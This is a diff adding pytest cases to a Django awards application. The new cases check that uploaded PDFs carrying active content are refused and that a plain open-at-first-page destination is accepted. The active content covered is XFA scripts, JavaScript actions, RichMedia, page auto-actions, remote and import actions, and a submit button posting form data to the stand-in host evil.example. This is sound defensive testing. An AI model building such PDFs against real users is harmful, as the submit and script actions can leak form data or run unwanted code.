@@ -9,7 +9,14 @@ import pytest
 from django.urls import reverse
 from PIL import Image
 from pypdf import PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from awards.models import Attachment
 from tests.awards.applicant_support import form_data, jpeg_bytes, open_campaign, pdf_bytes, upload
@@ -130,6 +137,123 @@ def test_active_pdfs_are_refused(client, application, build, message):
     assert response.status_code == 200
     assert message in _errors(response)
     assert not application.attachments.filter(kind=Attachment.Kind.EVIDENCE).exists()
+
+
+def _action(kind: str, **entries) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value
+    return action
+
+
+def _xfa_with_script(writer):
+    """An AcroForm whose XFA packet carries a <script> (run by XFA viewers when the form opens)."""
+    xfa = DecodedStreamObject()
+    xfa.set_data(
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
+        b'<script contentType="application/x-javascript">xfa.host.messageBox("x")</script>'
+        b"</event></subform></template></xdp:xdp>"
+    )
+    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
+    )
+
+
+def _annotation(writer, annotation: dict):
+    """An annotation on the first page."""
+    entry = DictionaryObject({NameObject("/Type"): NameObject("/Annot")})
+    entry.update({NameObject(k): v for k, v in annotation.items()})
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(entry)])
+
+
+def _submit_widget(writer):
+    """A form button that posts the form's data to a remote server when clicked."""
+    _annotation(
+        writer,
+        {
+            "/Subtype": NameObject("/Widget"),
+            "/FT": NameObject("/Btn"),
+            "/Rect": ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(20)]),
+            "/A": _action("/SubmitForm", F=TextStringObject("https://evil.example/collect")),
+        },
+    )
+
+
+def _page_open_action(writer):
+    """A page's additional action (/AA /O): runs when the page is shown."""
+    writer.pages[0][NameObject("/AA")] = DictionaryObject(
+        {NameObject("/O"): _action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))}
+    )
+
+
+def _rich_media(writer):
+    _annotation(
+        writer,
+        {
+            "/Subtype": NameObject("/RichMedia"),
+            "/Rect": ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(20)]),
+        },
+    )
+
+
+def _orphan_script(writer):
+    """A JavaScript action not reachable from the catalog (an older revision's object): still in the file."""
+    writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(2)")))
+
+
+def _script_under_p(writer):
+    """A direct dictionary under a /P key is not a back-reference: it is looked into."""
+    writer._root_object[NameObject("/PieceInfo")] = DictionaryObject(
+        {NameObject("/P"): _action("/JavaScript", JS=TextStringObject("app.alert(3)"))}
+    )
+
+
+@pytest.mark.parametrize(
+    ("build", "words"),
+    [
+        (_xfa_with_script, ["XFA 动态表单", "/XFA"]),
+        (_submit_widget, ["向外提交表单数据的动作", "/SubmitForm"]),
+        (lambda w: _open_action(w, {"/S": "/URI", "/URI": "https://evil.example/"}), ["打开网址", "/URI"]),
+        (lambda w: _open_action(w, {"/S": "/ImportData", "/F": "data.fdf"}), ["导入外部数据", "/ImportData"]),
+        (lambda w: _open_action(w, {"/S": "/GoToR", "/F": "other.pdf"}), ["打开其他文件", "/GoToR"]),
+        (_page_open_action, ["自动执行的动作", "/AA"]),
+        (_rich_media, ["多媒体", "/RichMedia"]),
+        (_orphan_script, ["含有脚本"]),
+        (_script_under_p, ["含有脚本"]),
+    ],
+    ids=[
+        "xfa-script",
+        "submit-form",
+        "uri-open-action",
+        "import-data",
+        "goto-remote",
+        "page-aa",
+        "rich-media",
+        "unreferenced-object",
+        "direct-dict-under-p",
+    ],
+)
+def test_more_active_content_is_refused_naming_what_was_found(client, application, build, words):
+    """Issue 21 item 8: every active feature anywhere in the file is refused with a field error naming it."""
+    response = post_files(client, application, evidence=upload("e.pdf", _pdf(build), "application/pdf"))
+    assert response.status_code == 200
+    for word in words:
+        assert word in _errors(response)
+    assert "出于安全考虑不能接收" in _errors(response)
+    assert not application.attachments.filter(kind=Attachment.Kind.EVIDENCE).exists()
+
+
+def test_an_open_action_that_only_shows_the_first_page_is_accepted(client, application):
+    """/OpenAction as a destination (open at page 1, whole page) is not active content."""
+
+    def build(writer):
+        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
+            [writer.pages[0].indirect_reference, NameObject("/Fit")]
+        )
+
+    response = post_files(client, application, evidence=upload("e.pdf", _pdf(build), "application/pdf"))
+    assert response.status_code == 302
+    assert application.attachments.filter(kind=Attachment.Kind.EVIDENCE).exists()
 
 
 def test_a_plain_pdf_is_still_accepted(client, application):
